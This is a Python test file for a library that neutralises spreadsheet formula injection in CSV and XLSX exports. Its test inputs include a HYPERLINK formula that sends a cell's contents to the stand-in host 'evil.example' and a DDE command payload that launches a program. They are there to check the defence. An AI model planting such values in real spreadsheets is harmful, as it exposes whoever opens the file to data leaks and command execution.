"""lib.spreadsheets: the OWASP rule against formula injection, shared by every CSV and XLSX writer."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from lib.spreadsheets import append_safe_row, safe_cell, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&D2;"Voir")',
        "+33 6 12 34 56 78",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_like_text_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Durand", "Éloïse", "N'Diaye", "Jean-Marc", "12,5", "ABS", "", "a=b", "02412345"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [12.5, -3, Decimal("-1.5"), 0, None])
def test_numbers_and_empty_cells_are_unchanged(value):
    assert safe_cell(value) is value


def test_safe_row_applies_the_rule_to_each_cell():
    assert safe_row(["=1", 14.0, "Nom"]) == ["'=1", 14.0, "Nom"]


def test_an_xlsx_row_keeps_text_as_text_and_numbers_as_numbers():
    workbook = Workbook()
    sheet = workbook.active
    append_safe_row(sheet, ["=1+1", "-cmd|' /C calc'!A0", 12.5, "Durand"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert isinstance(reread, Worksheet)
    cells = reread[1]
    assert [c.value for c in cells] == ["'=1+1", "'-cmd|' /C calc'!A0", 12.5, "Durand"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
